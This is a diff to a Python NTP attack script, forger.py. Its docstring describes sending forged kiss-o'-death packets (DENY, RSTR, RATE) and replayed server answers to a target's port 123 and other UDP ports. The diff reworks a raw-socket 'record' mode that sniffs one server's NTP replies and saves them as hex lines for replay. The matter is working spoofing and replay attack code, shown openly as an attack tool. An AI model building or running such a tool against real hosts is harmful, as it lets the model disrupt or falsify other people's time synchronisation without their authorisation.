@@ -5,7 +5,7 @@ the SERVERs to TARGET's port 123 and to the ports that UDP_TABLE, its /proc/PID/
 DENY, RSTR and RATE kisses with guessed and with no origin, and copies of what the servers once answered, one in hex on each
 line of RECORDED. Prints how many it sent.
 
-forger.py record RECORDED SERVER...: writes such lines of what arrives at this host until it is ended.
+forger.py record RECORDED SERVER: writes such lines of what this host, the server's, sends until it is ended.
 """
 
 import random
@@ -16,7 +16,7 @@ import time
 
 NTP_PORT = 123
 UNIX_TO_NTP = 2208988800
-ETH_P_IP = 0x0800
+ETH_P_ALL = 3
 HOUR_S = 3600
 
 
@@ -71,18 +71,17 @@ def attack(target, seed, count, seconds, table, recorded_path, servers):
     print("sent", count, "seed", seed)
 
 
-def record(path, servers):
-    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
-    addresses = {socket.inet_aton(server) for server in servers}
+def record(path, server):
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
     with open(path, "w", buffering=1) as lines:
         while True:
             packet = wire.recv(2048)
-            payload = packet[28:]
-            if packet[12:16] in addresses and packet[9] == socket.IPPROTO_UDP and payload[8:12] and b"EVIL" not in payload:
-                lines.write(payload.hex() + "\n")
+            from_server = packet[12:16] == socket.inet_aton(server)
+            if from_server and packet[9] == socket.IPPROTO_UDP and packet[20:22] == struct.pack("!H", NTP_PORT):
+                lines.write(packet[28:].hex() + "\n")
 
 
 if sys.argv[1] == "record":
-    record(sys.argv[2], sys.argv[3:])
+    record(sys.argv[2], sys.argv[3])
 else:
     attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], sys.argv[6], sys.argv[7:])
